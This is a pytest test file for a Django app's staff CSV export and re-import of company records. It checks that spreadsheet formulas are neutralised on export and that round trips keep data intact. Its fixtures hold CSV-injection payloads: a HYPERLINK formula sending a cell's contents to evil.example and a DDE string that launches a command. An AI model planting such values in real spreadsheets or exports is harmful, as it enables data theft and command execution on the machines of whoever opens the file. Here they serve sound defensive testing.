"""The staff CSV: formulas neutralised, and one format out and in (export, edit, import back)."""

import csv
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from companies.models import Certification, Company, CompanyHistory, ExportMarket
from companies.services import snapshot
from gvalley.csvfiles import FORMULA_STARTS
from tests.companies.factories import BuildingFactory, CompanyFactory, PendingCompanyFactory

pytestmark = pytest.mark.django_db

# What a manager typed into their own profile, hoping a staff member opens the export.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"자세히")'
FORMULA_EN = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_UNIT = "+1203호"
FORMULA_ADDRESS = "-2+3 가산디지털1로"


@pytest.fixture
def companies():
    tower = BuildingFactory(name="가산 누리테크타워", complex="2")
    hostile = CompanyFactory(
        name=FORMULA_NAME,
        name_en=FORMULA_EN,
        complex="2",
        building=tower,
        floor="12",
        unit=FORMULA_UNIT,
        road_address=FORMULA_ADDRESS,
        employee_band="c",
        founded_year=2012,
        representative_title="대표이사",
        products="보안 관제",
        keywords="보안, 관제",
        website="https://hostile.example",
        phone="02-1234-5678",
        email="a@hostile.example",
        description="<p>소개 <strong>굵게</strong></p>",
    )
    hostile.certifications.set(Certification.objects.filter(slug__in=["venture", "innobiz"]))
    hostile.export_markets.set(ExportMarket.objects.filter(code__in=["JP", "PH"]))
    plain = CompanyFactory(
        name="구로데이터",
        complex="1",
        industry_id="63",
        employee_band="e",
        description="평범한 소개",
    )
    return hostile, plain


def _export(client, query="", language=""):
    prefix = f"/{language}" if language else ""
    response = client.get(prefix + reverse("companies:export_csv") + query)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _rows(body):
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _state(company):
    """Return what the database holds of a company: every field, its lists, its status."""
    company.refresh_from_db()
    return (
        snapshot(company),
        sorted(company.certifications.values_list("slug", flat=True)),
        sorted(company.export_markets.values_list("code", flat=True)),
        company.status,
        company.slug,
    )


def test_the_export_neutralises_formulas_managers_typed(staff_client, companies):
    rows = _rows(_export(staff_client))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + FORMULA_NAME in cells
    assert "'" + FORMULA_EN in cells
    assert "'" + FORMULA_UNIT in cells
    assert "'" + FORMULA_ADDRESS in cells


def test_the_export_writes_codes_the_import_reads(staff_client, companies):
    hostile, plain = companies
    header, *rows = _rows(_export(staff_client))
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    row = by_name["'" + FORMULA_NAME]
    assert row["단지"] == "2"
    assert row["직원 수"] == "50-99"
    assert row["수출 시장"] == "JP; PH"
    assert row["인증"] == "벤처기업; 이노비즈"
    assert row["업종 코드"] == "62"
    assert row["건물"] == "가산 누리테크타워"
    assert by_name["구로데이터"]["직원 수"] == "300+"
    assert by_name["구로데이터"]["단지"] == "1"


def _import(staff_client, body, mode="update"):
    upload = SimpleUploadedFile("companies.csv", body, content_type="text/csv")
    response = staff_client.post(
        reverse("admin:companies_company_import"),
        {"file": upload, "registered": mode},
        follow=True,
    )
    assert response.status_code == 200
    return (
        response.content.decode()
    )  # the import job's page, its worker done (tests run jobs at once)


def test_export_edit_in_a_spreadsheet_and_import_back(staff_client, companies):
    hostile, plain = companies
    before = {company.pk: _state(company) for company in companies}
    old_phone = plain.phone
    header, *rows = _rows(_export(staff_client))
    # Staff change one phone number in the spreadsheet and save it as CSV again.
    phone = header.index("대표 전화")
    for row in rows:
        if row[0] == "구로데이터":
            row[phone] = "02-555-0199"
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])

    page = _import(staff_client, out.getvalue().encode("utf-8-sig"))
    assert "0개 기업을 가져왔습니다" in page
    assert "고친 기업 1개" in page and "바뀐 내용이 없는 기업 1개" in page

    # The database matches: the one change, nothing else; the formulas are the text typed.
    expected_plain = before[plain.pk]
    expected_plain[0]["phone"] = "02-555-0199"
    assert _state(plain) == expected_plain
    assert _state(hostile) == before[hostile.pk]
    assert hostile.name == FORMULA_NAME and hostile.unit == FORMULA_UNIT
    assert Company.objects.count() == 2
    entry = CompanyHistory.objects.get(company=plain, action="staff_edited")
    assert entry.changes == {"phone": [old_phone, "02-555-0199"]}
    assert entry.user.is_staff
    assert not CompanyHistory.objects.filter(company=hostile, action="staff_edited").exists()


def test_an_export_from_the_english_pages_imports_back(staff_client, companies):
    hostile, plain = companies
    before = _state(hostile)
    body = _export(staff_client, language="en")
    header = _rows(body)[0]
    assert header[:3] == ["Company name", "English name", "Business registration number"]
    # Fewer export markets, in the English file.
    text = body.decode("utf-8-sig").replace('"JP; PH"', '"PH"')
    _import(staff_client, text.encode("utf-8-sig"))
    expected = before[:2] + (["PH"],) + before[3:]
    assert _state(hostile) == expected


def test_registered_numbers_are_refused_unless_staff_ask_to_update(staff_client, companies):
    body = _export(staff_client)
    page = _import(staff_client, body, mode="skip")
    assert "이미 등록된 사업자등록번호입니다" in page
    assert "등록된 기업은 파일 내용으로 고치기" in page or "고치려면" in page


def test_the_admin_exports_the_chosen_companies_whatever_their_status(staff_client, companies):
    hostile, plain = companies
    pending = PendingCompanyFactory(name="대기중기업")
    response = staff_client.post(
        reverse("admin:companies_company_changelist"),
        {"action": "export_csv", "_selected_action": [pending.pk, hostile.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = _rows(b"".join(response.streaming_content))
    assert sorted(row[0] for row in rows) == sorted(["'" + FORMULA_NAME, "대기중기업"])
    assert {row[header.index("상태")] for row in rows} == {"승인", "검토 대기"}


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_a_spreadsheet_opens_the_export_without_a_single_formula(staff_client, companies, tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes(_export(staff_client))
    # Comma separated, quoted with ", UTF-8 (76), from line 1: what opening the file does.
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = ET.parse(tmp_path / "export.fods")
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    cells = list(sheet.iter(f"{{{table}}}table-cell"))
    assert [c.get(f"{{{table}}}formula") for c in cells if c.get(f"{{{table}}}formula")] == []
    shown = {"".join(p.itertext()) for p in sheet.iter(f"{{{text}}}p")}
    assert "'" + FORMULA_NAME in shown
